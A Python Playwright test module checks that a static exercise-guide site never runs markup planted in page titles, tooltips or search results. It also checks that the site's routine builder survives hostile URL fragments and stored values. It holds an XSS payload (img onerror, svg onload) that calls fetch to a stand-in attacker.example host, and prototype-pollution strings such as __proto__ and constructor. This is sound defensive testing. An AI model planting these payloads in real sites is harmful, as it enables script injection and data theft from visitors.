"""Hostile text in a real browser, without the CSP: no content title ever runs as markup (Material's
own scripts included), and the routine builder survives any address or stored routine.

The site is served with no ``_headers`` (as GitHub Pages or a plain server would), so nothing but the
pages themselves stops an injected script.
"""

from __future__ import annotations

from pathlib import Path
from urllib.parse import urlsplit

import pytest
import yaml

from .browser import serve
from .conftest import BuiltSite, build_site, copy_project

# Markup in a title long enough to be cut off in the sidebar, the header and the footer, where
# Material shows the whole title on hover.
PAYLOAD = (
    '<img src=x onerror="window.__injected=(window.__injected||0)+1;'
    "fetch('https://attacker.example/steal')\">"
)
HOSTILE_TITLE = f"Plank {PAYLOAD} with a long tail of words so that every navigation shows it cut off"
# The same markup in a cause's title, as a second page that every method page links to.
HOSTILE_CAUSE = f"Stress {PAYLOAD.replace('<img', '<svg onload=window.__injected=1 ')}"

PAGES = ["methods/plank.html", "methods/bridge.html", "causes/stress.html"]


def _set_title(path: Path, title: str) -> None:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data["title"] = title
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> BuiltSite:
    root = tmp_path_factory.mktemp("hostile")
    project = copy_project(root / "project")
    _set_title(project / "content" / "methods" / "plank.yaml", HOSTILE_TITLE)
    _set_title(project / "content" / "causes" / "stress.yaml", HOSTILE_CAUSE)
    # Not strict: an attacker's title may also read badly (a reading-grade warning on the pages that
    # list it); what this module tests is that it never runs.
    built = build_site(project, root / "site", strict=False)
    assert built.returncode == 0, built.log
    return built


# Whether the element is what the pointer meets at its centre.
ON_TOP = """(e) => {
  const r = e.getBoundingClientRect();
  const top = document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2);
  return !!top && (top === e || e.contains(top));
}"""


def _hover_everything_that_shows_the_title(page) -> int:
    """Hover every element that shows a hostile title; returns how many of them were cut off."""
    cut_off = 0
    for element in page.locator(".md-ellipsis, .md-nav__link, .md-header__topic").all():
        text = element.text_content() or ""
        if "<img" not in text and "<svg" not in text:
            continue
        if not element.is_visible():
            continue
        element.scroll_into_view_if_needed()
        cut_off += page.evaluate("(e) => e.scrollWidth > e.clientWidth", element.element_handle())
        if element.evaluate(ON_TOP):  # what a pointer can reach (not under the header, say)
            element.hover(timeout=5000)
            page.wait_for_timeout(300)  # Material shows its tooltip after a short delay
        element.evaluate("(e) => (e.closest('a') || e).focus()")  # as a keyboard reader reaches it
        page.wait_for_timeout(300)
    return cut_off


def test_markup_in_a_title_never_runs_without_the_csp(browser, hostile_site):
    assert "_headers" not in PAGES
    context = browser.new_context(viewport={"width": 1280, "height": 720})
    page = context.new_page()
    requests: list[str] = []
    errors: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.on("pageerror", lambda error: errors.append(str(error)))
    cut_off = 0
    try:
        with serve(hostile_site.root) as base:  # no headers at all: no CSP
            for path in PAGES:
                page.goto(base + path, wait_until="load")
                cut_off += _hover_everything_that_shows_the_title(page)
                # Scrolled down, the header shows the page's title (Material's header topic).
                page.mouse.wheel(0, 3000)
                page.wait_for_timeout(400)
                cut_off += _hover_everything_that_shows_the_title(page)
                page.mouse.move(5, 5)
                page.wait_for_timeout(300)
                assert page.evaluate("window.__injected") is None, f"a script ran on {path}"
                assert not page.locator(".md-tooltip img, .md-tooltip svg[onload]").count()
            # Search shows the titles again, from the search index, in results the script builds.
            page.goto(base + "index.html", wait_until="networkidle")
            box = page.locator("input.md-search__input")
            box.click()
            box.press_sequentially("plank", delay=30)
            results = page.locator(".md-search-result__item")
            results.first.wait_for(timeout=15_000)
            assert "<img" in results.first.inner_text(), "the title shows as text in the results"
            results.first.hover()
            page.wait_for_timeout(400)
            assert page.evaluate("window.__injected") is None, "a script ran in the search results"
            origin = "{0.scheme}://{0.netloc}".format(urlsplit(base))
    finally:
        context.close()
    assert cut_off, "no title was cut off: the test did not reach Material's tooltips"
    assert not errors, errors
    leaked = [url for url in requests if not url.startswith(origin) or url.rstrip("/").endswith("/x")]
    assert not leaked, leaked


# ---- the routine builder: any address, any stored routine --------------------------------------

BUILDER = "make-my-routine.html"
STORAGE_KEY = "backguide-routine"
HOSTILE_ROUTINES = [
    "steps=constructor",
    "steps=__proto__",
    "steps=toString",
    "steps=%",
    "steps=%E0%A4%A",
    "steps=hasOwnProperty.h5&conditions=__proto__,constructor,valueOf",
    "steps=bridge.__proto__.h%25,cat-camel.x9999999999",
    "conditions=%",
    "steps=" + "constructor," * 400,
]


def _open_builder(browser, url: str, stored: str | None = None):
    context = browser.new_context()
    if stored is not None:
        context.add_init_script(f"localStorage.setItem({STORAGE_KEY!r}, {stored!r})")
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(url, wait_until="load")
    return context, page, errors


def _assert_builder_works(page, errors: list[str]) -> None:
    assert not errors, errors
    assert page.locator("#routine-builder").is_visible(), "the builder stays hidden"
    note = page.locator(".builder-dropped")
    assert note.is_visible() and "Left out of the saved routine" in note.inner_text()
    page.get_by_role("button", name="Add Bridge").click()
    assert page.locator(".routine-card .card-steps > li").count() >= 1
    assert not errors, errors


@pytest.mark.parametrize("routine", HOSTILE_ROUTINES, ids=lambda r: r[:40])
def test_a_hostile_address_never_breaks_the_builder(browser, site_server, routine):
    context, page, errors = _open_builder(browser, f"{site_server}{BUILDER}#{routine}")
    try:
        _assert_builder_works(page, errors)
        kept = page.evaluate(f"localStorage.getItem({STORAGE_KEY!r})")
        assert "constructor" not in kept and "__proto__" not in kept and "%" not in kept
    finally:
        context.close()


@pytest.mark.parametrize("routine", HOSTILE_ROUTINES[:6], ids=lambda r: r[:40])
def test_a_hostile_stored_routine_never_breaks_the_builder(browser, site_server, routine):
    context, page, errors = _open_builder(browser, f"{site_server}{BUILDER}", stored=routine)
    try:
        _assert_builder_works(page, errors)
    finally:
        context.close()


def test_what_is_understood_is_kept_and_the_rest_is_named(browser, site_server):
    url = f"{site_server}{BUILDER}#steps=bridge.r10,constructor,cat-camel&conditions=toString"
    context, page, errors = _open_builder(browser, url)
    try:
        assert not errors, errors
        names = [
            item.inner_text().split(":")[0].strip()
            for item in page.locator(".routine-card .card-steps > li").all()
        ]
        assert names[:2] == ["Bridge", "Cat-camel"] and len(names) == 2
        note = page.locator(".builder-dropped").inner_text()
        assert "constructor" in note and "toString" in note
        # The cleaned routine replaces the stored one: the next visit has nothing to leave out.
        page.goto(f"{site_server}{BUILDER}", wait_until="load")
        assert page.locator(".builder-dropped").count() == 0
        assert page.locator(".routine-card .card-steps > li").count() == 2
    finally:
        context.close()
